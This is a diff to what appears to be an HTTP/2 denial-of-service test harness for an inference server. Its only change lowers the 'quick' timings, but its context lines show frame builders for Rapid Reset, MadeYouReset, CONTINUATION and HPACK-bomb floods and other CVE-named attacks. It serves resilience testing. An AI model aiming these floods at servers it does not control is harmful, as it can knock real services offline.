@@ -25,20 +25,20 @@ def with_streams(target, make):
     return f'{streams} streams on {ended} connections that were ended'
 
 
-@attack(quick=4)
+@attack(quick=2.5)
 def rapid_reset(target):
     """CVE-2023-44487: requests that are reset at once."""
     return with_streams(target, lambda h2, s: h2.head(s, INFER, 'POST', end=False) + rst(s))
 
 
-@attack(quick=4)
+@attack(quick=2.5)
 def rapid_reset_of_work(target):
     """The same with whole requests that a model has to run."""
     body = b'{"inputs":[{"name":"x","datatype":"INT32","shape":[1],"data":[1]}]}'
     return with_streams(target, lambda h2, s: h2.head(s, INFER, 'POST', end=False) + data(s, body) + rst(s))
 
 
-@attack(quick=4)
+@attack(quick=2.5)
 def made_you_reset(target):
     """CVE-2025-8671: bodies longer than announced, windows that overflow, frames on closed streams; the server resets."""
     kinds = [lambda h2, s: h2.head(s, INFER, 'POST', end=False, extra=[LENGTH]) + data(s, b'too long'),
@@ -50,7 +50,7 @@ def made_you_reset(target):
     return with_streams(target, lambda h2, s: kinds[s // 200 % len(kinds)](h2, s))
 
 
-@attack(quick=4)
+@attack(quick=2.5)
 def continuation_flood(target):
     """CVE-2024-28182: a head that never ends."""
     block = b''.join(field(n, v) for n, v in ((':method', 'GET'), (':scheme', 'http'), (':path', '/'), (':authority', 'a')))
@@ -58,7 +58,7 @@ def continuation_flood(target):
     return calm(target, first + frame(CONTINUATION, 0, 1, b'') * 50 + frame(CONTINUATION, 0, 1, long_field('x', 16000)) * 20, rounds=1)
 
 
-@attack(quick=4)
+@attack(quick=2.5)
 def hpack_bomb(target):
     """CVE-2016-6581, CVE-2026-49975: one field of 3.9 KB, 131,072 times by reference, its answers behind a window of 0."""
     block = b''.join(field(n, v) for n, v in ((':method', 'GET'), (':scheme', 'http'), (':path', '/v2'), (':authority', 'a')))
@@ -81,7 +81,7 @@ def hpack_bomb(target):
     return f'{ended} connections ended'
 
 
-@attack(seconds=30, quick=5)
+@attack(seconds=30, quick=3)
 def window_of_zero(target):
     """CVE-2019-9517: 100 answers each on 20 connections behind a window of 0, which then grows by one byte a second."""
     peers = []
@@ -96,13 +96,13 @@ def window_of_zero(target):
     return f'{sum(p.alive for p in peers)} of {len(peers)} connections still open'
 
 
-@attack(quick=4)
+@attack(quick=2.5)
 def ping_flood(target):
     """CVE-2019-9512: pings, and their answers not read."""
     return unread(target, ping() * 1000)
 
 
-@attack(quick=4)
+@attack(quick=2.5)
 def settings_flood(target):
     """CVE-2019-9515: SETTINGS, empty ones and ones that change the table."""
     return unread(target, (settings() + settings((1, 0)) + settings((1, 4096), (3, 100))) * 300)
@@ -120,7 +120,7 @@ def unread(target, octets):
     return f'{sent} volleys of {len(octets) >> 10} KiB on {ended} connections that were ended'
 
 
-@attack(quick=4)
+@attack(quick=2.5)
 def empty_frames(target):
     """CVE-2019-9518: empty DATA, DATA that is all padding, empty HEADERS of trailers."""
     def frames(h2, s):
@@ -129,14 +129,14 @@ def empty_frames(target):
     return with_streams(target, frames)
 
 
-@attack(quick=4)
+@attack(quick=2.5)
 def priority_and_window_churn(target):
     """CVE-2019-9513: PRIORITY and WINDOW_UPDATE without end, and frames of types that nobody knows."""
     octets = b''.join(priority(s, s - 1 or 9) for s in range(1, 2000, 2)) + window(0, 1) * 1000 + frame(0xfa, 0, 0, bytes(8)) * 1000
     return calm(target, octets)
 
 
-@attack(quick=4)
+@attack(quick=2.5)
 def stream_numbers(target):
     """The highest stream number first, then lower ones; 101 streams where 100 are allowed; heads of streams that were skipped."""
     ended = 0
@@ -150,7 +150,7 @@ def stream_numbers(target):
     return f'{ended} connections ended'
 
 
-@attack(quick=4)
+@attack(quick=2.5)
 def frame_soup(target):
     """Frames of any type with any flags, streams and bytes."""
     import random
